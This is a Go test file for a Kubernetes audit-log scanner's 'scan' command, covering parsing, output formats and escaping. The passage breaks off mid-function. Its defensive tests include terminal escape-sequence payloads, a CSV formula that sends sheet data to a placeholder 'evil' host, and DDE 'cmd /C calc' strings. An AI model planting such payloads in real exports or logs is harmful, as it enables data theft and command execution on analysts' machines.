package scan

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kubefingerprint/kubefingerprint"
	"github.com/kubefingerprint/kubefingerprint/internal/audit"
	"github.com/kubefingerprint/kubefingerprint/internal/bysource"
	"github.com/kubefingerprint/kubefingerprint/internal/detect"
	"github.com/kubefingerprint/kubefingerprint/internal/golden"
)

// An auditCall is one request to an API server, for building test records.
type auditCall struct {
	ips     []string
	ua      string
	verb    string
	uri     string
	code    int
	user    string // empty: "user":{}, as in a 401
	groups  []string
	time    string
	cluster string // empty: a bare audit event, not an AKS record
}

// line returns the call as an AKS storage-blob record, one NDJSON line.
func (c auditCall) line() string {
	user := map[string]any{}
	if c.user != "" {
		user["username"] = c.user
		user["groups"] = c.groups
	}
	ev := map[string]any{
		"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "stage": "ResponseComplete",
		"requestURI": c.uri, "verb": c.verb, "user": user, "sourceIPs": c.ips, "userAgent": c.ua,
		"responseStatus":           map[string]any{"metadata": map[string]any{}, "code": c.code},
		"requestReceivedTimestamp": c.time,
	}
	if c.code == 401 {
		ev["stage"] = "ResponseStarted"
	}
	log, err := json.Marshal(ev)
	if err != nil {
		panic(err)
	}
	if c.cluster == "" {
		return string(log)
	}
	rec, err := json.Marshal(map[string]any{
		"category": "kube-audit", "properties": map[string]any{"log": string(log) + "\n"}, "time": c.time,
		"resourceId": "/SUBSCRIPTIONS/S/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/" + c.cluster,
	})
	if err != nil {
		panic(err)
	}
	return string(rec)
}

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

type scanRun struct {
	out, err string
	code     int
}

// scan runs the scan subcommand with stdin piped in (not a terminal).
func scan(t *testing.T, stdin string, args ...string) scanRun {
	t.Helper()
	var out, errOut bytes.Buffer
	code := Run(args, Stdin{Reader: strings.NewReader(stdin)}, &out, &errOut)
	return scanRun{out.String(), errOut.String(), code}
}

// scanCSV parses scan --format csv output.
func scanCSV(t *testing.T, out string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err, out)
	return rows
}

var call401 = auditCall{ips: []string{"198.51.100.7"}, ua: "python-requests/2.31.0", verb: "list",
	uri: "/api/v1/secrets", code: 401, time: "2026-11-20T09:00:00Z", cluster: "AKS-PROD"}

func TestScanFilter(t *testing.T) {
	lookup := writeFile(t, "site.csv", "userAgent,cluster,comment\nkube-hunter,aks-prod-*,our own weekly scan\n,,no cells\n")
	hunter, other := call401, call401
	hunter.ua, hunter.cluster = "kube-hunter", "AKS-PROD-WEU"
	logs := writeFile(t, "a.log", hunter.line()+"\n"+other.line()+"\n"+hunter.line()+"\n")
	r := scan(t, "", "--format", "json", "--filter", lookup, logs)
	require.Equal(t, 0, r.code, r.err)
	assert.Equal(t, 1, strings.Count(r.out, "\n"), "two kube-hunter rows suppressed:\n%s", r.out)
	assert.NotContains(t, r.out, `"kube-hunter"`)
	assert.Contains(t, r.err, "WARN site.csv line 3: every matching cell is empty")
	assert.Contains(t, r.err, "2 by site.csv (1 rows)")

	r = scan(t, "", "--filter", "/nonexistent.csv", logs)
	assert.Equal(t, 2, r.code)
	assert.Contains(t, r.err, "nonexistent.csv")
}

// TestScanUsage is defect 17's flags: errors name flags as the command
// line spells them, flags may follow FILEs, --help is not an error.
func TestScanUsage(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--codes", "x"}, `--codes x: "x" is not an HTTP status code`},
		{[]string{"a.log", "--codes", "99"}, `--codes 99: "99" is not an HTTP status code`},
		{[]string{"--format", "xml"}, "--format xml: use table, csv or json"},
		{[]string{"--bogus"}, "unknown flag --bogus"},
		{[]string{"--codes"}, "--codes needs a value"},
		{[]string{"--min-uris", "-1"}, "--min-uris -1: use a whole number"},
		{[]string{"--anonymous=maybe"}, "--anonymous=maybe: use true or false"},
		{[]string{"--format", "csv", "a.log", "--format", "json"}, "--format json: given twice (csv, then json): give it once"},
		{[]string{"--anonymous", "--anonymous=false"}, "--anonymous=false: given twice (true, then false)"},
		{[]string{"--min-uris", "3", "--min-uris=4"}, "--min-uris 4: given twice (3, then 4)"},
	} {
		r := scan(t, "", tc.args...)
		assert.Equal(t, 2, r.code, "%v", tc.args)
		assert.Contains(t, r.err, tc.want, "%v", tc.args)
		assert.Contains(t, r.err, "kubefingerprint scan --help")
		assert.NotContains(t, r.err, "codes=", "no search-bar syntax on the command line")
		assert.Empty(t, r.out)
	}
	for _, help := range []string{"--help", "-h", "-help"} {
		r := scan(t, "", "a.log", help)
		assert.Equal(t, 0, r.code, help)
		assert.Equal(t, Usage, r.out)
		assert.Empty(t, r.err)
	}
	// A repetition that says the same thing is no error.
	cfg, err := parse([]string{"--format", "csv", "--format=csv", "--anonymous", "--anonymous=1", "--summary", "--summary"})
	require.NoError(t, err)
	assert.True(t, cfg.opts.Anonymous && cfg.summary)
	assert.Equal(t, "csv", cfg.style)
	// Every flag is in the usage.
	cfg, err = parse(nil)
	require.NoError(t, err)
	assert.Equal(t, bysource.DefaultThresholds, cfg.thresholds)
	for _, name := range []string{"codes", "anonymous", "filter", "format", "summary", "min-uris", "min-401", "fire-on-scanner"} {
		assert.Contains(t, Usage, "--"+name+" ")
	}
}

// TestScanFlagsAfterFiles is defect 17: scan a.log --codes 200 reads a.log
// with --codes 200, and -- ends the flags.
func TestScanFlagsAfterFiles(t *testing.T) {
	ok := call401
	ok.code = 200
	logs := writeFile(t, "a.log", ok.line()+"\n")
	r := scan(t, "", logs, "--codes", "200", "--format=csv")
	require.Equal(t, 0, r.code, r.err)
	rows := scanCSV(t, r.out)
	require.Len(t, rows, 2)
	assert.Equal(t, "200", rows[1][9])

	dir := t.TempDir()
	dashed := filepath.Join(dir, "--codes")
	require.NoError(t, os.WriteFile(dashed, []byte(call401.line()+"\n"), 0o644))
	r = scan(t, "", "--format", "csv", "--", dashed)
	require.Equal(t, 0, r.code, r.err)
	assert.Len(t, scanCSV(t, r.out), 2)
}

// TestScanCodesAddUp: repeated --codes add up, as repeated --filter do.
// 0.1.0 and the first scan kept the last list only, so --codes 401 --codes
// 403 dropped every 401 without a word.
func TestScanCodesAddUp(t *testing.T) {
	forbidden := call401
	forbidden.code = 403
	logs := writeFile(t, "a.log", call401.line()+"\n"+forbidden.line()+"\n")
	for _, args := range [][]string{
		{"--codes", "401", "--codes", "403"},
		{"--codes=403", "--codes", "401,401"},
		{"--codes", "401,403"},
	} {
		r := scan(t, "", append(args, "--format", "csv", logs)...)
		require.Equal(t, 0, r.code, r.err)
		var codes []string
		for _, row := range scanCSV(t, r.out)[1:] {
			codes = append(codes, row[9])
		}
		assert.Equal(t, []string{"401", "403"}, codes, "%v", args)
	}
	cfg, err := parse([]string{"--codes", "403"})
	require.NoError(t, err)
	assert.Equal(t, []int{403}, cfg.opts.Codes, "the first list replaces the default")
	assert.Equal(t, []int{401}, detect.DefaultCodes, "and leaves it alone")
}

// TestScanStdin is defect 11: standard input is read when FILE is - or
// when it is not a terminal; the bundled sample only in a terminal, and
// then it says so.
func TestScanStdin(t *testing.T) {
	piped := call401.line() + "\n"
	for _, args := range [][]string{{"--format", "csv"}, {"--format", "csv", "-"}} {
		r := scan(t, piped, args...)
		require.Equal(t, 0, r.code, r.err)
		rows := scanCSV(t, r.out)
		require.Len(t, rows, 2, "%v: the piped row, not the sample", args)
		assert.Equal(t, "198.51.100.7", rows[1][1])
		assert.NotContains(t, r.err, "bundled sample")
	}

	var out, errOut bytes.Buffer
	require.Equal(t, 0, Run([]string{"--format", "csv"}, Stdin{Terminal: true}, &out, &errOut), errOut.String())
	assert.Contains(t, errOut.String(), "scanning the bundled sample")
	assert.Greater(t, len(scanCSV(t, out.String())), 2)

	// - with FILEs in a terminal: standard input, as asked.
	logs := writeFile(t, "a.log", call401.line()+"\n")
	r := scan(t, piped, "--format", "csv", logs, "-")
	require.Equal(t, 0, r.code, r.err)
	assert.Len(t, scanCSV(t, r.out), 3)
}

// TestScanResync is defect 12: in a 1,001-line file whose line 2 is cut
// mid-string, the 999 lines after it produce their rows. The lines are bare
// audit events, on which 0.1.0 lost all but the first row (on storage-blob
// records, whose escaped quotes happened to bring its quote count back in
// step, it did not).
func TestScanResync(t *testing.T) {
	var b strings.Builder
	for i := 1; i <= 1001; i++ {
		if i == 2 {
			b.WriteString(`{"kind":"Event","userAgent":"cut mid-str` + "\n")
			continue
		}
		c := call401
		c.uri = fmt.Sprintf("/api/v1/namespaces/ns-%d/secrets", i)
		c.cluster = "" // a bare audit event
		b.WriteString(c.line() + "\n")
	}
	r := scan(t, "", "--format", "csv", writeFile(t, "a.log", b.String()))
	assert.Equal(t, 2, r.code)
	rows := scanCSV(t, r.out)
	require.Len(t, rows, 1001, "a header and the 1,000 good lines")
	assert.Equal(t, "/api/v1/namespaces/ns-1001/secrets", rows[1000][4])
	assert.Contains(t, r.err, "a.log line 2: JSON document cut short: a string is still open at the end of line 2; read as far as it goes")
	assert.Contains(t, r.err, "events read: 1001, rows emitted: 1000, events skipped as unparsable: 1")
}

// TestScanBadInput is defects 13, 14, 16 and 17 on files: whatever is wrong
// is reported with file and line, counted consistently, and every good
// record in the file is still reported.
func TestScanBadInput(t *testing.T) {
	good := call401.line()
	bom := "\xEF\xBB\xBF"
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	for i := 0; i < 5000; i++ {
		fmt.Fprintln(zw, good)
	}
	zw.Close()
	for _, tc := range []struct {
		name     string
		content  string
		rows     int
		code     int
		stderr   []string
		noStderr []string
	}{
		{name: "BOM", content: bom + good + "\n" + good + "\n", rows: 2},
		{name: "BOM pretty-printed", content: bom + "{\n  \"records\": [\n    " + good + ",\n    " + good + "\n  ]\n}\n", rows: 2},
		{name: "array with a string", content: good + "\n" + `["", {}]` + "\n" + good + "\n", rows: 2, code: 2,
			stderr: []string{"line 2: array element is not a JSON object", "events read: 4, rows emitted: 2, events skipped as unparsable: 1"}},
		{name: "not JSON counted", content: "klog text\nmore klog\n" + good + "\n", rows: 1, code: 2,
			stderr:   []string{`line 1: not JSON: "klog text"`, `line 2: not JSON: "more klog"`, "events read: 3, rows emitted: 1, events skipped as unparsable: 2"},
			noStderr: []string{"unparsable: 0"}},
		{name: "never ends, read as far as it goes", content: good + "\n" + good[:len(good)-10], rows: 2, code: 2,
			stderr: []string{"line 2: JSON document never ends (file cut short?); read as far as it goes",
				"events read: 2, rows emitted: 2, events skipped as unparsable: 0", "events cut short, read as far as they go, what lay past the cut lost: 1"}},
		{name: "deep arrays", content: strings.Repeat("[", 100_000) + good + strings.Repeat("]", 100_000) + "\n" + good, rows: 2},
		{name: "corrupt gzip", content: gz.String()[:gz.Len()/2], code: 2, stderr: []string{"gzip"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := scan(t, "", "--format", "csv", writeFile(t, "in.log", tc.content))
			assert.Equal(t, tc.code, r.code, r.err)
			if tc.rows > 0 {
				assert.Len(t, scanCSV(t, r.out), tc.rows+1, r.err)
			}
			for _, s := range tc.stderr {
				assert.Contains(t, r.err, s)
			}
			for _, s := range tc.noStderr {
				assert.NotContains(t, r.err, s)
			}
		})
	}
}

// TestScanDocumentTooLarge is defect 13: a document over the 64 MiB limit
// is reported and skipped, and the next one is read.
func TestScanDocumentTooLarge(t *testing.T) {
	big := `{"kind":"Event","requestObject":"` + strings.Repeat("A", 65<<20) + `","responseStatus":{"code":401}}`
	r := scan(t, big+"\n"+call401.line()+"\n", "--format", "csv")
	assert.Equal(t, 2, r.code)
	assert.Len(t, scanCSV(t, r.out), 2)
	assert.Contains(t, r.err, "standard input line 1: JSON document larger than the 64 MiB limit; skipped")
	assert.Contains(t, r.err, "events read: 2, rows emitted: 1, events skipped as unparsable: 1")
}

// TestScanDirectory is defect 17: a directory is named as one.
// TestScanFileNames: a file name is whatever the file's creator chose, and
// a shell glob over a log folder hands it to scan; on stderr it is escaped
// like a table cell, in every message that names it. The first scan
// wrote it raw: a name could clear the screen or retitle the terminal.
func TestScanFileNames(t *testing.T) {
	dir := t.TempDir()
	evil := filepath.Join(dir, "evil\x1b[2J\x1b]0;pwned\x07\u202e.json")
	require.NoError(t, os.WriteFile(evil, []byte(call401.line()+"\nnot json\n{\"a\":\n"), 0o644))
	sub := filepath.Join(dir, "dir\x1b[31m")
	require.NoError(t, os.Mkdir(sub, 0o755))
	allow := filepath.Join(dir, "allow\x1b[31m.csv")
	require.NoError(t, os.WriteFile(allow, []byte("sourceIP,comment\n192.0.2.1,x\n"), 0o644))
	r := scan(t, "", evil, filepath.Join(dir, "gone\x1b[31m.json"), sub, "--filter", allow)
	assert.Equal(t, 2, r.code)
	assert.Contains(t, r.err, `allow\x1b[31m.csv`, "the closing counts name the allowlist")
	assert.True(t, visible(r.err, true), "%q", r.err)
	assert.Contains(t, r.err, `evil\x1b[2J\x1b]0;pwned\a\u202e.json line 2: not JSON`)
	assert.Contains(t, r.err, `evil\x1b[2J\x1b]0;pwned\a\u202e.json line 3: JSON document never ends`)
	assert.Contains(t, r.err, `gone\x1b[31m.json: no such file or directory`)
	assert.Contains(t, r.err, `dir\x1b[31m is a directory`)
	assert.Equal(t, 2, strings.Count(r.out, "\n"), "the header and the file's row")
}

func TestScanDirectory(t *testing.T) {
	dir := t.TempDir()
	r := scan(t, "", dir)
	assert.Equal(t, 2, r.code)
	assert.Contains(t, r.err, dir+" is a directory: name the files in it, for example "+dir+"/*.json")
	assert.NotContains(t, r.err, "line 0")
}

func TestScanGzipAndPrettyJSON(t *testing.T) {
	// An Event Hub batch pretty-printed over many lines, then gzipped.
	pretty := "{\n  \"records\": [\n" + strings.Join(strings.Split(strings.TrimSpace(string(kubefingerprint.Sample)), "\n")[1:3], ",\n") + "\n  ]\n}\n"
	plain := writeFile(t, "batch.json", pretty)
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(pretty))
	zw.Close()
	zipped := writeFile(t, "batch.json.gz", gz.String())

	a, b := scan(t, "", "--format", "csv", plain), scan(t, "", "--format", "csv", zipped)
	require.Equal(t, 0, a.code, a.err)
	require.Equal(t, 0, b.code, b.err)
	assert.Equal(t, a.out, b.out)
	assert.Len(t, scanCSV(t, a.out), 3)
}

// TestScanFormats is defect 17's output: the CSV has one column per field
// and no __mv_ columns; the table shows _time in RFC 3339 UTC and escapes
// what a terminal would obey; JSON keeps lists as arrays.
func TestScanFormats(t *testing.T) {
	c := call401
	c.ips = []string{"10.0.0.5", "198.51.100.7"}
	c.ua = "evil\x1b[31m\u009b red, \"quoted\""
	c.time = "2026-11-20T09:00:00.25Z"
	logs := writeFile(t, "a.log", c.line()+"\n")

	r := scan(t, "", "--format", "csv", logs)
	require.Equal(t, 0, r.code, r.err)
	rows := scanCSV(t, r.out)
	assert.Equal(t, fieldNames(), rows[0])
	assert.Equal(t, "1795165200.250000", rows[1][0])
	assert.Equal(t, "10.0.0.5\n198.51.100.7", rows[1][1])
	assert.Equal(t, `evil\x1b[31m\u009b red, "quoted"`, rows[1][2], "escaped as in the table")

	r = scan(t, "", "--format", "json", logs)
	require.Equal(t, 0, r.code, r.err)
	var obj map[string]any
	require.NoError(t, json.Unmarshal([]byte(r.out), &obj))
	assert.Equal(t, c.ua, obj["userAgent"], "exact")
	assert.Equal(t, []any{"10.0.0.5", "198.51.100.7"}, obj["sourceIPs{}"])
	assert.Equal(t, "198.51.100.7", obj["src_ip"])
	assert.Equal(t, []any{}, obj["user.groups{}"])
	assert.Equal(t, "", obj["user"])

	r = scan(t, "", logs)
	require.Equal(t, 0, r.code, r.err)
	golden.Check(t, "testdata/scan-table.golden", []byte(r.out))
	assert.Contains(t, r.out, "2026-11-20T09:00:00.25Z  10.0.0.5, 198.51.100.7  ")
	assert.NotContains(t, r.out, "\x1b")
	assert.NotContains(t, r.out, "\u009b")
}

// hostileValues are what a client can put in its user agent or request
// URI, and through them in every output: escape sequences that clear the
// screen, move the cursor up and erase the line above (hiding a row), set
// the clipboard (OSC 52); a newline or carriage return that starts a
// forged row; C1 controls, bidi overrides that reorder what follows,
// zero-width and separator characters; invalid UTF-8.
var hostileValues = []string{
	"\x1b[2J\x1b[H", "x\x1b[1A\x1b[2K", "\x1b]52;c;ZXZpbA==\x07", "a\nb\tc\rd",
	"2026-11-20T09:00:00Z  10.0.0.1\r\n2026-11-20T09:00:01Z  forged",
	"\u009b31m", "\u202eevil\u202c", "zero\u200bwidth\ufeff", "line\u2028para\u2029", "nb\u00a0sp", "tag\U000E0041",
	"bad \xff\xfe utf-8", "\x00nul", "\x7fdel",
}

// visible tells whether s holds only printable characters and ASCII
// spaces, with line breaks where allowed.
func visible(s string, breaks bool) bool {
	for _, r := range s {
		if r == '\n' && breaks {
			continue
		}
		if !strconv.IsPrint(r) {
			return false
		}
	}
	return true
}

// TestTerminalSafe: whatever a client sent, no output format sends a
// terminal anything but visible characters and the line breaks that end
// rows (and, in CSV, separate a list's values inside quotes). The table
// and CSV escape what is not printable, JSON writes \u escapes that decode
// back to the exact value. The first scan sent bidi overrides, zero-width
// and line-separator characters raw in the table, and every control
// character raw in CSV; its JSON sent C1 controls and bidi overrides raw.
func TestTerminalSafe(t *testing.T) {
	var lines []string
	for i, v := range hostileValues {
		c := call401
		c.ua, c.uri = v, "/api/"+v
		c.ips = []string{"10.0.0.5", fmt.Sprintf("198.51.100.%d", i)}
		lines = append(lines, c.line())
	}
	logs := writeFile(t, "a.log", strings.Join(lines, "\n")+"\n")
	for _, args := range [][]string{{}, {"--format", "csv"}, {"--format", "json"}, {"--summary"}, {"--summary", "--format", "csv"}, {"--summary", "--format", "json"}} {
		r := scan(t, "", append(args, logs)...)
		require.Equal(t, 0, r.code, r.err)
		csv := slices.Contains(args, "csv")
		assert.True(t, visible(r.out, true), "%v: only visible characters and line breaks:\n%q", args, r.out)
		if !csv {
			header := 1
			if slices.Contains(args, "json") {
				header = 0
			}
			assert.Equal(t, len(hostileValues)+header, strings.Count(r.out, "\n"), "%v: one line per row or source", args)
		}
	}
	r := scan(t, "", "--format", "json", logs)
	for i, l := range strings.Split(strings.TrimSpace(r.out), "\n") {
		var obj map[string]any
		require.NoError(t, json.Unmarshal([]byte(l), &obj))
		var logged string // the value as the log holds it: json.Marshal replaced invalid UTF-8
		b, _ := json.Marshal(hostileValues[i])
		require.NoError(t, json.Unmarshal(b, &logged))
		assert.Equal(t, logged, obj["userAgent"], "JSON keeps the value")
	}
	r = scan(t, "", "--format", "csv", logs)
	rows := scanCSV(t, r.out)
	require.Len(t, rows, len(hostileValues)+1)
	for i, row := range rows[1:] {
		assert.True(t, visible(row[2], false), "only visible characters in a CSV value: %q", row[2])
		assert.Equal(t, "10.0.0.5\n"+row[7], row[1], "a list's values are split by newlines only")
		assert.Equal(t, string(appendCell(nil, hostileValues[i])), row[2])
	}
}

// FuzzJSONString: the JSON writer's strings decode to the value that
// encoding/json writes and reads back, and hold only visible characters.
func FuzzJSONString(f *testing.F) {
	for _, v := range hostileValues {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) {
		out := appendJSONString(nil, v)
		if !visible(string(out), false) {
			t.Fatalf("%q: not only visible characters: %q", v, out)
		}
		var got, want string
		if err := json.Unmarshal(out, &got); err != nil {
			t.Fatalf("%q: %q is not a JSON string: %v", v, out, err)
		}
		b, _ := json.Marshal(v)
		json.Unmarshal(b, &want)
		if got != want {
			t.Fatalf("%q: read back %q, want %q", v, got, want)
		}
	})
}

// TestCSVFormulas: a CSV cell that a spreadsheet would run as a formula
// (=HYPERLINK that sends the sheet away, a DDE command) starts with ',
// and nothing else is touched. The first scan wrote them as they came.
func TestCSVFormulas(t *testing.T) {
	for _, tc := range []struct{ ua, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"＝1+1", "'＝1+1"},
		{"\t=1+1", `\t=1+1`}, // escaped: the cell starts with a backslash
		{"\r=1+1", `\r=1+1`},
		{"curl/8.5.0 (=1+1)", "curl/8.5.0 (=1+1)"},
		{"'quoted", "'quoted"},
	} {
		c := call401
		c.ua = tc.ua
		r := scan(t, "", "--format", "csv", writeFile(t, "a.log", c.line()+"\n"))
		require.Equal(t, 0, r.code, r.err)
		rows := scanCSV(t, r.out)
		require.Len(t, rows, 2)
		assert.Equal(t, tc.want, rows[1][2], tc.ua)
		assert.Equal(t, "/api/v1/secrets", rows[1][4], "other cells untouched")

		r = scan(t, "", "--format", "json", writeFile(t, "a.log", c.line()+"\n"))
		var obj map[string]any
		require.NoError(t, json.Unmarshal([]byte(r.out), &obj))
		assert.Equal(t, tc.ua, obj["userAgent"], "JSON is exact")
	}
}

// TestValuesCut: a value longer than maxValue is printed cut, ending in
// "…", and a list stops at maxValue bytes with a last "…"; the cut falls
// between characters. Before, a 60 MB user agent of escape characters
// became 2 GB of JSON in memory, and a list of millions of empty values
// a slice of millions of strings.
func TestValuesCut(t *testing.T) {
	long := strings.Repeat("é", maxValue) // two bytes each
	got := one([]byte(long))
	require.Len(t, got, 1)
	assert.Equal(t, long[:maxValue]+"…", got[0])
	assert.True(t, utf8.ValidString(one([]byte("x" + long))[0]), "never half a character")
	assert.Equal(t, []string{"a"}, one([]byte("a")))
	assert.Nil(t, one(nil))

	empties := make([][]byte, 10*maxValue)
	got = many(empties)
	assert.Len(t, got, maxValue+1)
	assert.Equal(t, "…", got[maxValue])
	assert.Equal(t, []string{"a", "b"}, many([][]byte{[]byte("a"), []byte("b")}))
	got = many([][]byte{[]byte(long), []byte("b")})
	assert.Equal(t, []string{long[:maxValue], "…"}, got)

	// End to end, in every format: the row is there, its value cut.
	c := call401
	c.ua = strings.Repeat("\x1b", 3*maxValue)
	logs := writeFile(t, "a.log", c.line()+"\n")
	for _, format := range []string{"table", "csv", "json"} {
		r := scan(t, "", "--format", format, logs)
		require.Equal(t, 0, r.code, r.err)
		assert.Contains(t, r.out, "…", format)
		assert.Contains(t, r.out, "/api/v1/secrets", format)
		assert.Less(t, len(r.out), 8*maxValue, format)
	}
}

// TestRowsStream: the rows of one document (a records batch of 20,000
// 401s) are never all held in memory: past spoolMemory they wait in a
// temporary file, so they reach the output in pieces of at most that. A
// 63 MB batch of small 401s would otherwise take hundreds of megabytes as
// JSON.
func TestRowsStream(t *testing.T) {
	rec := `{"kind":"Event","stage":"ResponseStarted","sourceIPs":["203.0.113.9"],"responseStatus":{"code":401}}`
	const n = 200_000
	batch := `{"records":[` + strings.TrimSuffix(strings.Repeat(rec+",", n), ",") + "]}\n"
	for format, lines := range map[string]int{"table": n + 1, "csv": n + 1, "json": n} { // JSON has no header
		var w largestWrite
		code := Run([]string{"--format", format, "-"}, Stdin{Reader: strings.NewReader(batch)}, &w, io.Discard)
		require.Equal(t, 0, code)
		assert.Equal(t, lines, w.lines, format)
		assert.LessOrEqual(t, w.largest, spoolMemory, format)
	}
}

type largestWrite struct{ largest, lines int }

func (w *largestWrite) Write(p []byte) (int, error) {
	w.largest = max(w.largest, len(p))
	w.lines += bytes.Count(p, []byte("\n"))
	return len(p), nil
}

// TestTableStreams: the table holds only its first rows, to size the
// columns, and prints every later row as it comes.
func TestTableStreams(t *testing.T) {
	var out bytes.Buffer
	p := &printer{style: "table", cols: []column{{name: "a"}, {name: "b"}}, out: &out}
	for i := 0; i < tableSample; i++ {
		p.print(record{{"x"}, {fmt.Sprint(i)}})
		p.Commit()
	}
	assert.Empty(t, out.String(), "the first rows size the columns")
	p.print(record{{"xx"}, {"y"}})
	p.Commit()
	assert.Equal(t, tableSample+2, strings.Count(out.String(), "\n"), "header and every row so far")
	assert.Equal(t, "a   b\nx   0\n", out.String()[:12])
	for _, tc := range []struct{ a, b, want string }{
		{"z", "1", "z   1\n"},
		{"a wider cell", "1", "a wider cell  1\n"},
		{"", "", "-   -\n"},
	} {
		n := out.Len()
		p.print(record{one([]byte(tc.a)), one([]byte(tc.b))})
		p.Commit()
		assert.Equal(t, tc.want, out.String()[n:], "later rows print at once, in the widths found")
	}
	n := out.Len()
	p.finish()
	assert.Equal(t, n, out.Len())

	// Fewer rows than the sample: printed at the end.
	out.Reset()
	p = &printer{style: "table", cols: []column{{name: "time", time: true}, {name: "list", list: true}}, out: &out}
	p.print(record{{"1795165200"}, {"a", "b"}})
	p.Commit()
	assert.Empty(t, out.String())
	p.finish()
	assert.Equal(t, "time                  list\n2026-11-20T09:00:00Z  a, b\n", out.String())
}

// TestWithdraw: the lines of a withdrawn event reach no output in any
// style, whether they were held for the table's widths, rendered while the
// widths were found, or spooled to a file; the lines committed before it
// all do, in order.
func TestWithdraw(t *testing.T) {
	for _, style := range []string{"table", "csv", "json"} {
		for _, n := range []int{1, tableSample / 2, tableSample + 5, 200_000} {
			var out bytes.Buffer
			p := &printer{style: style, cols: []column{{name: "a"}}, out: &out}
			p.print(record{{"kept-1"}})
			p.Commit()
			for i := 0; i < n; i++ {
				p.print(record{{fmt.Sprintf("withdrawn-%d-%s", i, strings.Repeat("w", 60))}})
			}
			p.Withdraw()
			p.print(record{{"kept-2"}})
			p.Commit()
			p.finish()
			p.spool.close()
			assert.NotContains(t, out.String(), "withdrawn", "%s, %d rows", style, n)
			assert.Regexp(t, `(?s)kept-1.*\n.*kept-2`, out.String(), "%s, %d rows", style, n)
			header := 1
			if style == "json" {
				header = 0
			}
			assert.Equal(t, header+2, strings.Count(out.String(), "\n"), "%s, %d rows", style, n)
		}
		// A withdrawn first event takes its header with it, and the next
		// event writes it.
		var out bytes.Buffer
		p := &printer{style: style, cols: []column{{name: "a"}}, out: &out}
		p.print(record{{"withdrawn"}})
		p.Withdraw()
		p.print(record{{"kept"}})
		p.Commit()
		p.finish()
		if style != "json" {
			assert.Equal(t, 1, strings.Count(out.String(), "a"), style)
		}
		assert.NotContains(t, out.String(), "withdrawn", style)
	}
}

// TestSpool: past spoolMemory the lines of one event go to a temporary
// file, and come back whole and in order.
func TestSpool(t *testing.T) {
	var s spool
	defer s.close()
	line := []byte(strings.Repeat("x", 1000) + "\n")
	var want bytes.Buffer
	for i := 0; want.Len() < 3*spoolMemory; i++ {
		l := fmt.Appendf(nil, "%d:%s", i, line)
		s.write(l)
		want.Write(l)
	}
	require.NotNil(t, s.file, "spilled")
	assert.LessOrEqual(t, cap(s.mem), 2*spoolMemory)
	var got bytes.Buffer
	s.commitTo(&got)
	assert.Equal(t, want.Len(), got.Len())
	assert.True(t, bytes.Equal(want.Bytes(), got.Bytes()))
	s.write([]byte("next\n"))
	got.Reset()
	s.commitTo(&got)
	assert.Equal(t, "next\n", got.String(), "the file is emptied at commit")
	require.NoError(t, s.err)
}

// The row record and detect.Fields agree.
func TestRowRecord(t *testing.T) {
	rec := rowRecord(&detect.Row{Event: &audit.Event{}})
	assert.Len(t, rec, len(detect.Fields))
	assert.Len(t, rowColumns, len(detect.Fields))
}

func fieldNames() []string {
	var names []string
	for _, f := range detect.Fields {
		names = append(names, f.Name)
	}
	return names
}

// FuzzScan runs scan's reading loop on arbitrary files: no input causes an
// internal error, every bad part is reported and counted, and a good 401
// record after any input is still reported.
func FuzzScan(f *testing.F) {
	f.Add([]byte(call401.line() + "\n"))
	f.Add([]byte(`["", {}]`))
	f.Add([]byte("{\"records\":[\n" + call401.line() + ",\n{\"a\":\"cut\n"))
	f.Add([]byte("\xEF\xBB\xBF[[{\"kind\":\"Event\",\"responseStatus\":{\"code\":401}}]]"))
	f.Add([]byte("\xfe\xff\x00{\xd8"))
	f.Add([]byte("\xff\xfe{\x00"))
	f.Add([]byte("\x1f\x8b"))
	f.Fuzz(func(t *testing.T, in []byte) {
		// The input, then a line break and a good record: whatever the
		// input left open, the record's own line starts it afresh. A file
		// that starts with a UTF-16 byte order mark is UTF-16 text, so
		// there the line break and the record are UTF-16 too, a whole
		// number of code units from the start.
		content := append(slices.Clip(in), '\n')
		if len(in) >= 2 && (in[0] == 0xfe && in[1] == 0xff || in[0] == 0xff && in[1] == 0xfe) {
			content = slices.Clip(in)
			if len(content)%2 == 1 {
				content = append(content, 0)
			}
			for _, u := range utf16.Encode([]rune("\n" + call401.line())) {
				if in[0] == 0xfe {
					content = append(content, byte(u>>8), byte(u))
				} else {
					content = append(content, byte(u), byte(u>>8))
				}
			}
		} else {
			content = append(content, call401.line()...)
		}
		var out, errOut bytes.Buffer
		code := Run([]string{"--format", "json", "-"}, Stdin{Reader: bytes.NewReader(content)}, &out, &errOut)
		if strings.Contains(errOut.String(), "internal error") {
			t.Fatalf("internal error: %s", errOut.String())
		}
		if code != 0 && code != 2 {
			t.Fatalf("exit status %d", code)
		}
		if code == 0 && strings.Contains(errOut.String(), " line ") {
			t.Fatalf("a problem was reported but the exit status is 0: %s", errOut.String())
		}
		if bytes.HasPrefix(in, []byte("\x1f\x8b")) {
			// A gzip stream: whatever follows it is not gzip, and says so.
			if code != 2 || !strings.Contains(errOut.String(), "gzip") {
				t.Fatalf("text after a gzip stream: exit status %d, %s", code, errOut.String())
			}
			return
		}
